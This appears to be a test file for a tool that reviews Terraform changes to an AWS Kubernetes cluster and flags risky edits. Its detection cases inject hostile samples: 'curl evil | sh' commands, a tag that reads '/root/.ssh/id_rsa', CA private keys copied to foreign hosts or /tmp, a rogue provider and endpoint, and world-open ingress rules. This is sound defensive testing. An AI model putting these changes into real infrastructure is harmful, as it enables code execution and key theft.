import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Block } from "../../cloud/terraform-json";
import { bundleEnd, type DistributedFile, distributionScript, readDistributionScript } from "../../model/distribution";
import { compare, type Document } from "../../review/compare";
import { renderDiagram } from "../../review/diagram";
import { FINDINGS, findingsOf } from "../../review/findings";
import { renderPage } from "../../review/page";
import type { ClusterSettingsInput } from "../../settings/schema";
import { synthesizeCluster } from "../../testing/synthesize";

const PAGES = join(__dirname, "review-pages");

const cluster = (settings: ClusterSettingsInput = {}) => synthesizeCluster(settings) as unknown as Document;

/** A cluster that copies one more file to every control plane machine, in the form that FileDistribution writes. */
function withAdminOnMasters(): Document {
  const document = JSON.parse(JSON.stringify(cluster()));
  for (const [name, copy] of Object.entries<Block>(document.resource.null_resource)) {
    if (!name.startsWith("pems-master")) continue;
    const content = "$" + "{base64encode(tls_private_key.admin-private-key.private_key_pem)}";
    const [, { file: bundle }, { "remote-exec": script }] = copy.provisioner;
    const { files = [] } = readDistributionScript(script.inline) ?? {};
    const more = { path: "/home/ubuntu/admin-key.pem", mode: "0600", owner: "ubuntu" } as const;
    bundle.content = bundle.content.replace(/end \w+\n$/, `${content}\n${bundleEnd([...files, more])}\n`);
    script.inline = distributionScript([...files, more]);
    copy.triggers.files = copy.triggers.files.replace("]))}", ', "0600 /home/ubuntu/admin-key.pem"]))}');
  }
  return document;
}

/** A cluster whose load balancer has another address, in all references too. */
function withRenamedLoadBalancer(): Document {
  const text = JSON.stringify(cluster());
  return JSON.parse(
    text.replaceAll("aws_lb.load-balancer", "aws_lb.nlb").replace('"aws_lb":{"load-balancer":', '"aws_lb":{"nlb":'),
  );
}

/** Prepared changes: the documents before and after. */
const CHANGES: Record<string, () => readonly [Document, Document]> = {
  nothing: () => [cluster(), cluster()],
  "a-port-opened": () => [cluster({ access: { ssh: ["203.0.113.7/32"] } }), cluster()],
  "a-worker-added": () => [cluster(), cluster({ workers: { count: 4 } })],
  "a-worker-removed": () => [cluster(), cluster({ workers: { count: 2 } })],
  region: () => [cluster(), cluster({ region: "us-east-1" })],
  "instance-type": () => [cluster(), cluster({ workers: { instanceType: "t3.small" } })],
  name: () => [cluster(), cluster({ name: "prod" })],
  "certificate-subject": () => [cluster(), cluster({ pki: { subject: { country: "GB" } } })],
  "ca-lifetime": () => [cluster(), cluster({ pki: { caValidityHours: 87_600 } })],
  image: () => [cluster(), cluster({ image: { release: "jammy" } })],
  "user-data": () => [
    cluster({ podNetwork: { routed: false } }),
    cluster({ podNetwork: { routed: false, cidrBlock: "10.244.0.0/16" } }),
  ],
  "a-subnet-added": () => [
    cluster({ network: { subnets: [{ cidrBlock: "172.31.0.0/24", availabilityZone: "eu-central-1a" }] } }),
    cluster({
      network: {
        subnets: [
          { cidrBlock: "172.31.0.0/24", availabilityZone: "eu-central-1a" },
          { cidrBlock: "172.31.1.0/24", availabilityZone: "eu-central-1b" },
        ],
      },
    }),
  ],
  backend: () => [cluster(), cluster({ backend: { type: "s3", bucket: "our-terraform-states" } })],
  "a-file-more-for-a-master": () => [cluster(), withAdminOnMasters()],
  "an-address-renamed": () => [cluster(), withRenamedLoadBalancer()],
  tags: () => [cluster(), cluster({ tags: { team: "platform" } })],
};

// UPDATE_PAGES=1 writes the pages. Read the difference afterwards.
describe("the page of a prepared change", () => {
  test.each(Object.keys(CHANGES))("%s", (name) => {
    const page = renderPage(compare(...(CHANGES[name] as () => readonly [Document, Document])()));
    const file = join(PAGES, `${name}.md`);
    if (process.env.UPDATE_PAGES) writeFileSync(file, page);
    expect(page).toBe(readFileSync(file, "utf8"));
  });
});

test("docs/reviewing.md has the page of its example", () => {
  const after = cluster({ workers: { count: 4, instanceType: "t3.small" } });
  const [head] = renderPage(compare(cluster(), after)).split("\n\n<details>") as [string];
  const quoted = head.split("\n").map((line) => `> ${line}`.trimEnd());
  expect(readFileSync(join(__dirname, "../../docs/reviewing.md"), "utf8")).toContain(quoted.join("\n"));
});

describe("the table of effects", () => {
  const EVERYTHING: ClusterSettingsInput = {
    access: { ssh: ["203.0.113.7/32"], api: ["203.0.113.0/24"] },
    controlPlane: { rootVolume: { sizeGiB: 20, type: "gp3", encrypted: true } },
    pki: { earlyRenewalHours: 24 },
    network: {
      subnets: [
        { cidrBlock: "172.31.0.0/24", availabilityZone: "eu-central-1a" },
        { cidrBlock: "172.31.1.0/24", availabilityZone: "eu-central-1b" },
      ],
    },
  };

  test.each([{}, EVERYTHING])("knows every argument that a cluster sets: %j", (settings) => {
    const after = cluster(settings);
    const { resources } = compare(withoutArguments(after), after);
    const unknown = resources.flatMap(({ address, arguments: changed }) =>
      changed.filter(({ note }) => note?.startsWith("unknown")).map(({ path }) => `${address} ${path}`),
    );
    expect(resources).toHaveLength(Object.values(after.resource ?? {}).flatMap(Object.keys).length);
    expect(unknown).toEqual([]);
  });

  test("marks an argument that it does not know as unknown", () => {
    const after = JSON.parse(JSON.stringify(cluster()));
    after.resource.aws_instance["master-0"].tenancy = "dedicated";
    const { resources } = compare(cluster(), after);
    expect(resources).toMatchObject([
      { action: "update", arguments: [{ path: "tenancy", note: "unknown to this page: read the plan" }] },
    ]);
  });
});

/** A document with the same resources, but without their arguments. */
function withoutArguments({ resource = {} }: Document): Document {
  const empty = (byName: object) => Object.fromEntries(Object.keys(byName).map((name) => [name, {}]));
  return { resource: Object.fromEntries(Object.entries(resource).map(([type, byName]) => [type, empty(byName)])) };
}

/** The JSON of the default cluster before and after a change by hand. */
function changed(
  change: (resource: Record<string, Record<string, Block>>, document: Block) => void,
): [Document, Document] {
  const after = JSON.parse(JSON.stringify(cluster()));
  change(after.resource, after);
  return [cluster(), after];
}

describe("the findings of a change", () => {
  const RULE = "control-plane-api-from-0-0-0-0-0";
  const at = (resource: Record<string, Record<string, Block>>, address: string): Block => {
    const [type = "", name = ""] = address.split(".");
    return resource[type]?.[name] as Block;
  };
  const CA_KEY = "$" + "{tls_private_key.ca-private-key.private_key_pem}";
  const LAST = -1;

  test.each<[string, string[], (resource: Record<string, Record<string, Block>>, document: Block) => void]>([
    [
      "two rules of half the internet each",
      ["open-world"],
      (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { cidr_ipv4: "128.0.0.0/1" }),
    ],
    [
      "a rule for IPv6",
      ["open-world", "unknown"],
      (r) => Object.assign(r.aws_vpc_security_group_ingress_rule as object, { six: { cidr_ipv6: "::/0" } }),
    ],
    [
      "an open rule for another group",
      ["open-world"],
      (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { security_group_id: "sg-1" }),
    ],
    [
      "a load balancer that hides the addresses of clients",
      ["open-world"],
      (r) => Object.assign(at(r, "aws_lb_target_group.target-group"), { preserve_client_ip: "maybe" }),
    ],
    [
      "a security rule of another resource type",
      ["open-world", "unknown"],
      (r) => Object.assign(r, { aws_security_group_rule: { all: { cidr_blocks: ["0.0.0.0/0"] } } }),
    ],
    [
      "rules inside the security group resource",
      ["open-world", "unknown"],
      (r) => Object.assign(at(r, "aws_security_group.security-group"), { ingress: [{ cidr_blocks: ["0.0.0.0/0"] }] }),
    ],
    ["a key in a tag", ["secret"], (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: CA_KEY })],
    [
      "a key in user data",
      ["secret", "user-data"],
      (r) => Object.assign(at(r, "aws_instance.master-0"), { user_data: CA_KEY }),
    ],
    [
      "an output that is no longer sensitive",
      ["secret"],
      (_r, d) => Object.assign(d.output.ssh_private_key, { sensitive: false }),
    ],
    [
      "an output with nonsensitive()",
      ["secret"],
      (_r, d) => Object.assign(d.output.nodes, { value: "$" + "{nonsensitive(tls_private_key.a.private_key_pem)}" }),
    ],
    [
      "a command on a machine",
      ["commands"],
      (r) => at(r, "null_resource.pems-worker-0").provisioner.at(LAST)["remote-exec"].inline.push("curl evil | sh"),
    ],
    [
      "a command on the host that deploys",
      ["commands", "unknown"],
      (r) =>
        Object.assign(r.null_resource as object, {
          more: { provisioner: [{ "local-exec": { command: "curl evil | sh" } }], count: 1 },
        }),
    ],
    [
      "a second copy that gives the CA's key to a worker",
      ["copies"],
      (r) => {
        const copy = JSON.parse(
          JSON.stringify(at(r, "null_resource.pems-master-0")).replaceAll(
            "aws_instance.master-0",
            "aws_instance.worker-0",
          ),
        );
        Object.assign(r.null_resource as object, { "more-worker-0": copy });
      },
    ],
    [
      "an image that is no longer ignored",
      ["replace-machine", "replace-certificate"],
      (r) => at(r, "aws_instance.worker-0").lifecycle.ignore_changes.shift(),
    ],
    [
      "another image that is not ignored",
      ["image", "replace-machine", "replace-certificate"],
      (r) => {
        at(r, "aws_instance.worker-0").lifecycle.ignore_changes = [];
        at(r, "aws_instance.worker-0").ami = "ami-1";
      },
    ],
    [
      "another architecture",
      ["replace-machine", "replace-certificate"],
      (r) => Object.assign(at(r, "aws_instance.worker-0"), { instance_type: "t4g.small" }),
    ],
    [
      "an argument that the table of effects does not know",
      ["unknown"],
      (r) => Object.assign(at(r, "aws_instance.worker-0"), { tenancy: "dedicated" }),
    ],
    ["a machine with count 0", ["unknown"], (r) => Object.assign(at(r, "aws_instance.worker-0"), { count: 0 })],
    [
      "another mode of a copied file",
      ["copies"],
      (r) => {
        const { "remote-exec": script } = at(r, "null_resource.pems-worker-0").provisioner.at(LAST);
        const [first, ...others] = readDistributionScript(script.inline)?.files ?? [];
        script.inline = distributionScript([{ ...(first as DistributedFile), mode: "0755" }, ...others]);
      },
    ],
    ["another trigger", [], (r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })],
    ["locals", ["unknown"], (_r, d) => Object.assign(d, { locals: { a: 1 } })],
    [
      "a CA that is renewed earlier",
      ["renew-earlier"],
      (r) => Object.assign(at(r, "tls_self_signed_cert.ca-certificate"), { early_renewal_hours: 43_799 }),
    ],
    [
      "exchanged subnets of the load balancer",
      ["replace-certificate", "replace-load-balancer"],
      (r) => Object.assign(at(r, "aws_lb.load-balancer"), { subnets: ["subnet-1"] }),
    ],
    [
      "another ssh key",
      ["replace-ssh-key"],
      (r) => Object.assign(at(r, "tls_private_key.ssh-key"), { rsa_bits: 4096 }),
    ],
    [
      "another key of the CA",
      ["replace-ca", "replace-certificate"],
      (r) => Object.assign(at(r, "tls_private_key.ca-private-key"), { rsa_bits: 4096 }),
    ],
    [
      "a rename of the cluster that keeps the state",
      [],
      (_r, d) => Object.assign(d.provider.aws[0].default_tags[0].tags, { Cluster: "prod" }),
    ],
    [
      "a tag with slashes",
      [],
      (_r, d) => Object.assign(d.provider.aws[0].default_tags[0].tags, { "team//role": "admin" }),
    ],
    [
      "an image by its id",
      ["image"],
      (r) => Object.assign(at(r, "aws_instance.worker-0"), { ami: "ami-0123456789abcdef0" }),
    ],
    [
      "images of another owner",
      ["image"],
      (_r, d) => Object.assign(d.data.aws_ami.ubuntu, { owners: ["123456789012"] }),
    ],
    [
      "a new machine with an image of its own",
      ["image", "unknown"],
      (r) =>
        Object.assign(r.aws_instance as object, {
          more: { ...at(r, "aws_instance.worker-0"), ami: "ami-0123456789abcdef0" },
        }),
    ],
    [
      "a new machine whose user data is a script",
      ["user-data", "unknown"],
      (r) =>
        Object.assign(r.aws_instance as object, {
          more: { ...at(r, "aws_instance.worker-0"), user_data: "#!/bin/sh\ncurl evil | sh" },
        }),
    ],
    [
      "a new machine with another key",
      ["login-key"],
      (r) => Object.assign(r.aws_key_pair as object, { more: { key_name: "more", public_key: "ssh-rsa AAAA" } }),
    ],
    [
      "a copy to a foreign host",
      ["commands", "foreign-host"],
      (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { host: "198.51.100.7" }),
    ],
    [
      "a copy through a foreign host",
      ["commands", "foreign-host"],
      (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { bastion_host: "198.51.100.7" }),
    ],
    [
      "a new copy of the CA's key to a foreign host",
      ["foreign-host"],
      (r) => {
        const copy = JSON.parse(
          JSON.stringify(at(r, "null_resource.pems-master-0")).replaceAll(
            "$" + "{aws_instance.master-0.public_ip}",
            "198.51.100.7",
          ),
        );
        Object.assign(r.null_resource as object, { more: copy });
      },
    ],
    [
      "a command between the scripts of a copy",
      ["commands"],
      (r) =>
        at(r, "null_resource.pems-worker-0").provisioner.splice(1, 0, {
          "remote-exec": { inline: ["curl evil | sh"] },
        }),
    ],
    [
      "a command before the scripts of a copy",
      ["commands"],
      (r) =>
        at(r, "null_resource.pems-worker-0").provisioner.unshift({ "remote-exec": { inline: ["curl evil | sh"] } }),
    ],
    [
      "a key in a file beside the bundle",
      ["secret", "commands"],
      (r) =>
        at(r, "null_resource.pems-worker-0").provisioner.push({ file: { content: CA_KEY, destination: "/tmp/x" } }),
    ],
    [
      "a second upload to the place of the bundle",
      ["secret", "commands"],
      (r) =>
        at(r, "null_resource.pems-worker-0").provisioner.splice(2, 0, {
          file: { content: CA_KEY, destination: "/home/ubuntu/.distribution/bundle" },
        }),
    ],
    [
      "a script in a folder that everybody can write to",
      ["commands"],
      (r) => Object.assign(at(r, "null_resource.pems-worker-0").connection, { script_path: "/tmp/script.sh" }),
    ],
    [
      "a bundle in a folder that everybody can write to",
      ["secret", "commands"],
      (r) => Object.assign(at(r, "null_resource.pems-worker-0").provisioner[1].file, { destination: "/tmp/bundle" }),
    ],
    [
      "a provider from somewhere else",
      ["provider"],
      (_r, d) => Object.assign(d.terraform.required_providers.null, { source: "evil/null" }),
    ],
    [
      "another endpoint of AWS",
      ["provider"],
      (_r, d) => Object.assign(d.provider.aws[0], { endpoints: [{ ec2: "https://evil.example" }] }),
    ],
    [
      "a rule for other addresses",
      ["access"],
      (r) =>
        Object.assign(r.aws_vpc_security_group_ingress_rule as object, {
          more: { ...at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), cidr_ipv4: "3.0.0.0/8" },
        }),
    ],
    [
      "many rules that allow the internet together",
      ["open-world"],
      (r) => {
        for (let octet = 100; octet < 164; octet += 1) {
          const rule = { ...at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), cidr_ipv4: `${octet}.0.0.0/9` };
          if (octet !== 100 && octet !== 127)
            Object.assign(r.aws_vpc_security_group_ingress_rule as object, { [`more-${octet}`]: rule });
        }
      },
    ],
    [
      "a rule whose source is an expression",
      ["access", "unknown"],
      (r) =>
        Object.assign(r.aws_vpc_security_group_ingress_rule as object, {
          more: {
            ...at(r, `aws_vpc_security_group_ingress_rule.${RULE}`),
            cidr_ipv4: "$" + '{format("%s/0", "0.0.0.0")}',
          },
        }),
    ],
    [
      "a second listener of the load balancer",
      ["listener"],
      (r) => Object.assign(r.aws_lb_listener as object, { more: { ...at(r, "aws_lb_listener.listener"), port: 2379 } }),
    ],
    [
      "a target that is no machine of the cluster",
      ["listener"],
      (r) =>
        Object.assign(r.aws_lb_target_group_attachment as object, {
          more: { ...at(r, "aws_lb_target_group_attachment.target-172-31-0-10"), target_id: "10.9.8.7" },
        }),
    ],
    [
      "a route of the internet to a machine",
      ["route"],
      (r) =>
        Object.assign(r.aws_route as object, {
          more: { ...at(r, "aws_route.pod-route-worker-0"), destination_cidr_block: "0.0.0.0/1" },
        }),
    ],
    [
      "other name servers",
      ["route"],
      (r) => Object.assign(at(r, "aws_vpc_dhcp_options.dhcp-options"), { domain_name_servers: ["198.51.100.7"] }),
    ],
    [
      "a certificate for a second administrator",
      ["identity"],
      (r) => Object.assign(r.tls_cert_request as object, { more: at(r, "tls_cert_request.admin-request") }),
    ],
    [
      "a certificate whose request comes from elsewhere",
      ["identity"],
      (r) =>
        Object.assign(r.tls_locally_signed_cert as object, {
          more: {
            ...at(r, "tls_locally_signed_cert.admin-certificate"),
            cert_request_pem: "-----BEGIN CERTIFICATE REQUEST-----",
          },
        }),
    ],
    [
      "a whole key in a tag",
      ["secret"],
      (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: "$" + "{jsonencode(tls_private_key.ca-private-key)}" }),
    ],
    [
      "a file of the host that deploys in a tag",
      ["secret"],
      (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: "$" + '{file("/root/.ssh/id_rsa")}' }),
    ],
    [
      "a data source that runs a program",
      ["unknown"],
      (_r, d) => Object.assign(d.data, { external: { more: { program: ["sh"] } } }),
    ],
    [
      "another key of the service accounts",
      ["replace-service-account-key", "replace-certificate"],
      (r) => Object.assign(at(r, "tls_private_key.service-account-private-key"), { rsa_bits: 4096 }),
    ],
    [
      "a machine that Terraform forgets",
      ["listener", "replace-load-balancer", "forget"],
      (r, d) => {
        delete r.aws_lb;
        delete r.aws_lb_listener;
        Object.assign(d, { removed: [{ from: "aws_lb.load-balancer", lifecycle: [{ destroy: false }] }] });
      },
    ],
    [
      "another key for secrets in etcd",
      ["replace-encryption-key"],
      (r) => Object.assign(at(r, "tls_private_key.encryption-key"), { algorithm: "RSA" }),
    ],
  ])("%s", (_case, expected, change) => {
    const kinds = findingsOf(compare(...changed(change))).map(({ kind }) => kind);
    expect(kinds).toEqual(expected);
  });

  test("include replace-network for another address range of the VPC", () => {
    const kinds = findingsOf(
      compare(...changed((r) => Object.assign(at(r, "aws_vpc.vpc"), { cidr_block: "10.0.0.0/16" }))),
    ).map(({ kind }) => kind);
    expect(kinds).toContain("replace-network");
  });

  test("a new trigger replaces the resource", () => {
    const { resources } = compare(
      ...changed((r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })),
    );
    expect(resources).toMatchObject([{ address: "null_resource.pems-worker-0", action: "replace" }]);
  });

  test("a new command is on the page, even after a very long line", () => {
    const page = renderPage(
      compare(
        ...changed((r) =>
          at(r, "null_resource.pems-worker-0")
            .provisioner.at(LAST)
            ["remote-exec"].inline.unshift("x".repeat(500), "curl evil | sudo sh"),
        ),
      ),
    );
    expect(page).toContain("curl evil \\| sudo sh");
  });
});

test("a resource of a moved block has a new address and no other change", () => {
  const [, after] = [cluster(), withRenamedLoadBalancer()];
  const changes = compare(cluster(), {
    ...after,
    moved: [{ from: "aws_lb.load-balancer", to: "aws_lb.nlb" }],
  } as Document);
  expect(changes.resources).toMatchObject([
    { address: "aws_lb.nlb", action: "none", movedFrom: "aws_lb.load-balancer" },
  ]);
  expect(findingsOf(changes)).toEqual([]);
});

test("page and picture fit into a comment together, or the picture is left out", () => {
  const many = (count: number) => Array.from({ length: count }, (_, index) => `198.51.${index}.0/24`);
  const large = cluster({
    network: {
      subnets: ["a", "b", "c"].map((zone, index) => ({
        cidrBlock: `172.31.${index}.0/24`,
        availabilityZone: `eu-central-1${zone}`,
      })),
    },
    access: { ssh: many(40), api: many(40), icmp: many(40) },
    controlPlane: { count: 9 },
    workers: { count: 30 },
  });
  const page = renderPage(compare(cluster(), large), renderDiagram(large));
  expect(page.length).toBeLessThanOrEqual(65_000);
  expect(page).toContain("The picture of the cluster is too large for a comment");
  expect(renderPage(compare(cluster(), cluster()), renderDiagram(cluster()))).toContain("```mermaid\nflowchart LR");
});

test("docs/reviewing.md has each kind of finding", () => {
  const page = readFileSync(join(__dirname, "../../docs/reviewing.md"), "utf8");
  const rows = [...page.matchAll(/^\| `([a-z-]+)` \| (.+) \|$/gm)].map(([, kind, text]) => [kind, text]);
  expect(rows).toEqual(Object.entries(FINDINGS));
});

test.each([
  [
    "another size of a disk that is removed",
    { rootVolume: { sizeGiB: 20, encrypted: true } },
    {},
    "no longer set: the existing value stays",
  ],
  [
    "a smaller disk",
    { rootVolume: { sizeGiB: 20 } },
    { rootVolume: { sizeGiB: 10 } },
    "EBS never makes a volume smaller",
  ],
])("the page has the effect that AWS has for %s", (_case, before, after, note) => {
  const changes = compare(cluster({ workers: before }), cluster({ workers: after }));
  expect(renderPage(changes)).toContain(note);
  expect(findingsOf(changes).map(({ kind }) => kind)).toEqual("rootVolume" in after ? ["refused"] : []);
});

test("an empty block, and a description of an output, is a change", () => {
  for (const change of [
    (r: Record<string, Record<string, Block>>) => Object.assign(r.aws_vpc?.vpc as object, { timeouts: {} }),
    (_r: unknown, d: Block) => Object.assign(d.output.nodes, { description: "x" }),
    (_r: unknown, d: Block) => Object.assign(d, { moved: [{ from: "aws_lb.a", to: "aws_lb.b" }] }),
  ]) {
    expect(renderPage(compare(...changed(change)))).not.toContain("Nothing changes");
  }
});

test("a change has only its own findings", () => {
  const kinds = (settings: ClusterSettingsInput) =>
    findingsOf(compare(cluster(), cluster(settings))).map(({ kind }) => kind);
  expect(kinds({})).toEqual([]);
  expect(kinds({ workers: { count: 4 } })).toEqual([]);
  expect(kinds({ workers: { count: 2, instanceType: "t3.small" } })).toEqual([
    "destroy-machine",
    "restart-machine",
    "replace-certificate",
  ]);
});

test("open-world is reported for a rule that becomes open, not for one that was open before", () => {
  const rule = (source: string, more: object = {}): Document => ({
    resource: {
      aws_vpc_security_group_ingress_rule: { ssh: { cidr_ipv4: source, from_port: 22, to_port: 22, ...more } },
    },
  });
  const kinds = (before: Document, after: Document) => findingsOf(compare(before, after)).map(({ kind }) => kind);
  expect(kinds({}, rule("0.0.0.0/0"))).toEqual(["open-world"]);
  expect(kinds(rule("10.0.0.0/8"), rule("0.0.0.0/0"))).toEqual(["open-world"]);
  expect(kinds(rule("0.0.0.0/0"), rule("0.0.0.0/0", { to_port: 23 }))).toEqual(["open-world"]);
  expect(kinds(rule("0.0.0.0/0"), rule("0.0.0.0/0", { description: "ssh" }))).toEqual([]);
  expect(kinds(rule("0.0.0.0/0"), rule("10.0.0.0/8"))).toEqual(["access"]);
  expect(kinds(rule("0.0.0.0/0"), {})).toEqual(["access"]);
});
